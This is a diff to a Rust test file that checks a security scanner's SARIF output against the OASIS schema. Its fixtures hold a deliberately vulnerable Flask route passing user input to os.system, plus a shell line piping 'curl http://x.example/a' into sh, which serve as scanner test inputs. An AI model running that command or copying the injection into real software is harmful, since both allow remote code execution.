@@ -7,7 +7,7 @@ use aetherra_maint::report::security_eval::{RuleNote, SecurityReport};
 use aetherra_maint::report::{Format, Report as _};
 use serde_json::Value;
 
-use crate::room::{Ran, Room};
+use crate::room::{Ran, Room, repository};
 
 const FLOW: &str = "from flask import Flask, request\nimport os\n\napp = Flask(__name__)\n\n\n@app.route('/x')\n\
                     def x():\n    name = request.args['name']\n    os.system('convert ' + name)\n    return ''\n";
@@ -20,6 +20,53 @@ fn document(ran: &Ran) -> Value {
 
 fn list<'v>(value: &'v Value, pointer: &str) -> &'v [Value] {
     value.pointer(pointer).and_then(Value::as_array).map_or(&[], Vec::as_slice)
+}
+
+/// Validates a document against the schema that OASIS publishes with the standard.
+#[track_caller]
+fn assert_sarif(sarif: &Value) {
+    let text = std::fs::read_to_string(repository().join("tests/sarif-2.1.0.json")).expect("the schema");
+    // One pattern of it has a bracket too many, which is no regular expression.
+    let text = text.replace("[a-zA-Z]{2}]?$", "[a-zA-Z]{2}$");
+    let schema: Value = serde_json::from_str(&text).expect("JSON");
+    let validator = jsonschema::draft7::new(&schema).expect("a valid JSON Schema");
+    let problems: Vec<String> =
+        validator.iter_errors(sarif).map(|error| format!("{}: {error}", error.instance_path())).take(5).collect();
+    assert!(problems.is_empty(), "{problems:#?}");
+}
+
+#[test]
+fn every_sarif_document_is_one_by_the_standard() {
+    let bad = "import os\nos.system('a' + b)  # nosec\nos.system('a' + b)\nx = 1  # nosec\n";
+    let room = Room::with(&[("flow.py", FLOW), ("é %?.py", YAML), ("sub/a.py", bad), ("gap.py", "def f(:\n")]);
+    room.write("zeros.py", [0_u8; 300]);
+    room.write("one.sh", "curl http://x.example/a | sh\n");
+    for (arguments, code) in [
+        (&["security-eval", "--report-from", "note"][..], 1),
+        (&["security-eval", "--report-from", "note", "--select", "bandit"], 1),
+        (&["security-eval", "zeros.py"], 3),
+        (&["security-eval", "--select", "weak-hash", "sub"], 0),
+        (&["security-eval", "not-there"], 2),
+        (&["security-eval", "--state", "gap.py", "sub"], 5),
+    ] {
+        let ran = Ran::of(room.command(arguments).args(["-f", "sarif"]));
+        assert_eq!(ran.code, code, "{arguments:?}: {}", ran.stderr);
+        let sarif = document(&ran);
+        assert_sarif(&sarif);
+        assert_eq!(list(&sarif, "/runs").len(), 1);
+        let ok = &sarif["runs"][0]["invocations"][0]["executionSuccessful"];
+        assert_eq!(ok, &Value::from(code == 0), "{arguments:?}");
+    }
+    let outside = room.home().join("out.py");
+    std::fs::write(&outside, SHELL).expect("a file");
+    let path = outside.display().to_string();
+    let sarif = document(&room.run(&["security-eval", &path, "-f", "sarif"]));
+    assert_sarif(&sarif);
+    assert!(sarif["runs"][0]["results"][0].is_object(), "{sarif:#}");
+    // What the schema refuses, the test would see.
+    let mut broken = sarif.clone();
+    broken["runs"][0]["results"][0]["level"] = "high".into();
+    assert!(std::panic::catch_unwind(|| assert_sarif(&broken)).is_err());
 }
 
 /// What GitHub demands of a document, and what it shows of one.
@@ -147,6 +194,9 @@ fn more_than_github_takes_is_cut_by_severity() {
     assert_eq!(results.len(), 25_000);
     assert_eq!(results.iter().filter(|result| result["level"] == "error").count(), 23_000);
     assert_eq!(list(&results[0], "/codeFlows/0/threadFlows/0/locations").len(), 1_000);
+    let mut some = sarif.clone();
+    some["runs"][0]["results"].as_array_mut().expect("results").truncate(20);
+    assert_sarif(&some);
     let said = report.left_out(Format::Sarif);
     assert!(said.iter().any(|said| said.message.contains("26000 results")), "{said:?}");
 }
